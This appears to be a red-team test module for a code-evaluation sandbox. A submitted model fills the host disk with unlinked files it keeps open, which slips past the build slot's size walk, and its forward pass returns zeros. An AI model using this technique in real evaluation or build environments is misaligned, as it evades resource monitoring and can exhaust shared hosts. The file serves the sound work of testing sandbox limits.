# ATTACK (the host's disk, past the build slot's size walk): opens files in its build folder,
# unlinks each at once and keeps it open, and writes into them until `write_mb` or an error:
# named nowhere, such files are invisible to a walk of the folder (3 GiB once landed on the
# host's disk this way while the evaluation came back correct). The sandbox owes a limit that
# counts them: the slot's own size-limited file system (or, on the host's disk, the runner's
# count of deleted files held open), and RLIMIT_FSIZE for each file. Holds them `hold_s`
# seconds, prints what it got (KB-ATTACK line) and returns zeros.
import json
import os
import time

import torch
import torch.nn as nn

# The shared prelude: conftest.render() puts common.py's text here.
from .common import CONFIG, REPORT, Blocked, attempt

MB = 1 << 20
HELD = []  # the open files, kept for the whole evaluation


def fill_unlinked():
    folder = os.environ.get("TORCH_EXTENSIONS_DIR") or "/kb/build/ext"
    os.makedirs(folder, exist_ok=True)
    chunk, total, files, errors = b"u" * (16 * MB), 0, 0, []
    while total < CONFIG["write_mb"] * MB and len(errors) < 64:
        path = os.path.join(folder, f"kb-attack-{CONFIG['tag']}-{files}.o")
        f = open(path, "wb", buffering=0)  # noqa: SIM115 (held open on purpose)
        os.unlink(path)
        HELD.append(f)
        files += 1
        try:
            while total < CONFIG["write_mb"] * MB:
                total += f.write(chunk)
        except OSError as exc:
            errors.append(f"{total // MB} MB: {exc.strerror}")
            if exc.strerror not in ("File too large",):
                break  # the file system is full: no other file helps
    got = f"{total // MB} MB in {files} unlinked files held open; {errors[:4]}"
    if total < CONFIG["write_mb"] * MB:
        raise Blocked(got)
    return got


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        attempt("write_unlinked", fill_unlinked)
        print("KB-ATTACK " + json.dumps(REPORT, sort_keys=True), flush=True)
        time.sleep(CONFIG["hold_s"])  # the runner looks at the slot once a second

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.zeros_like(x)
